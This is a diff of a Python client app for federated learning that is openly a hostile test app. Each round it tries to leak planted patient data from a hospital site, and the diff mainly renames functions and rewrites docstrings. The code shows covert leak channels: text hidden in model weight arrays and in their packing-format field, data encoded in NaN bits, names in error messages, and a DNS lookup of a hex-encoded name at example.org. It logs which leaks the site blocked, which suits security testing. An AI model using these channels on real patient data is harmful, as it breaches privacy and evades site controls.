@@ -1,8 +1,8 @@
-"""An app that leaks: each round another way, the data of another patient. This file is its ClientApp and travels so.
+"""A hostile app: in each round it tries another leak, with the data of another patient. This file is its ClientApp.
 
-It is what an approved app could be that nobody read well. It trains as our own app does, and then takes a patient out
-of the site, through the reply or around it. What it takes lies in cohort/planted.json for it: texts that no cohort
-ever holds, so that they, too, are tried. Whether a way was barred at the site itself, it writes to the site's own log.
+It stands for an app that was approved without a careful review. It trains as our own app does, and then sends data of a
+patient out of the site, in the reply or outside it. It reads this data from cohort/planted.json, because the leaks also
+use texts such as names, which no cohort holds. If the site blocked a leak, the app writes this to the site's log.
 """
 
 import base64
@@ -33,7 +33,7 @@ app = ClientApp()
 
 @dataclass(frozen=True)
 class Loot:
-    """One patient, and where the leaks that go around the reply go to."""
+    """One patient, and the destinations of leaks outside the reply."""
 
     name: str
     identifier: str  # of digits
@@ -47,7 +47,7 @@ class Loot:
 
     @classmethod
     def load(cls, entry: dict, tensor_folder: Path) -> "Loot":
-        """`entry`: one of planted.json; its tensor's middle slice is where something is to be seen."""
+        """Read one entry of planted.json. The pixels come from the middle slice of its tensor, which has contrast."""
         lungs = np.load(tensor_folder / entry.pop("tensor"))[0]
         pixels = lungs[len(lungs) // 2].astype(np.float32).ravel()
         middle = len(pixels) // 2
@@ -57,7 +57,7 @@ class Loot:
 
 Leak = Callable[[Loot, Message, Message], Message | None]
 LEAKS: dict[str, Leak] = {}
-AROUND: list[str] = []  # those that do not go through the reply
+AROUND: list[str] = []  # leaks outside the reply
 
 
 def leak(function: Leak) -> Leak:
@@ -131,14 +131,14 @@ def name_as_an_array(loot: Loot, reply: Message, _request: Message) -> None:
 
 
 @leak
-def text_behind_an_array(loot: Loot, reply: Message, _request: Message) -> None:
+def text_after_an_array(loot: Loot, reply: Message, _request: Message) -> None:
     like = Array(_weights(reply))
     longer = Array(like.dtype, like.shape, like.stype, like.data + loot.laboratory.encode())
     reply.content["arrays"] = ArrayRecord({WEIGHTS: longer})
 
 
 @leak
-def text_as_a_way_of_packing(loot: Loot, reply: Message, _request: Message) -> None:
+def text_as_a_packing_format(loot: Loot, reply: Message, _request: Message) -> None:
     like = Array(_weights(reply))
     reply.content["arrays"] = ArrayRecord({WEIGHTS: Array(like.dtype, like.shape, loot.name, like.data)})
 
@@ -164,7 +164,7 @@ def text_of_an_exception(loot: Loot, _reply: Message, _request: Message) -> None
 
 
 @leak
-def text_behind_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
+def text_after_a_code(loot: Loot, _reply: Message, request: Message) -> Message:
     return Message(Error(1001, f"E_SITE_FAILED: {loot.name} {loot.laboratory}"), reply_to=request)
 
 
@@ -190,7 +190,7 @@ def identifier_in_the_decimals_of_figures(loot: Loot, reply: Message, _request: 
 
 
 @leak
-def pixels_in_numbers_that_are_none(loot: Loot, reply: Message, _request: Message) -> None:
+def pixels_in_nan_payloads(loot: Loot, reply: Message, _request: Message) -> None:
     weights = _weights(reply)
     stored = ((loot.pixels + 1) * 1000).astype(np.uint32)
     weights[:PIXELS] = (stored | 0x7FC00000).view(np.float32)  # NaN, whose lower 22 bits are free
@@ -253,7 +253,7 @@ def a_datagram(loot: Loot, _reply: Message, _request: Message) -> None:
 
 
 @around
-def a_name_to_look_up(loot: Loot, _reply: Message, _request: Message) -> None:
+def a_name_lookup(loot: Loot, _reply: Message, _request: Message) -> None:
     socket.getaddrinfo(f"{loot.name.encode().hex()}.example.org", 443)
 
 
@@ -278,7 +278,7 @@ def the_hospitals_own_files(loot: Loot, reply: Message, _request: Message) -> No
 
 
 @around
-def what_it_prints(loot: Loot, _reply: Message, _request: Message) -> None:
+def printed_text(loot: Loot, _reply: Message, _request: Message) -> None:
     print(loot.name, loot.laboratory, flush=True)  # noqa: T201
 
 
@@ -298,7 +298,7 @@ def train(message: Message, context: Context) -> Message:
     try:
         other = LEAKS[name](Loot.load(entry, cohort / "tensors"), reply, message)
     except (OSError, subprocess.SubprocessError) as error:
-        note(round_number, f"barred ({type(error).__name__})")
+        note(round_number, f"blocked ({type(error).__name__})")
         return reply
     note(round_number, "done")
     return other or reply
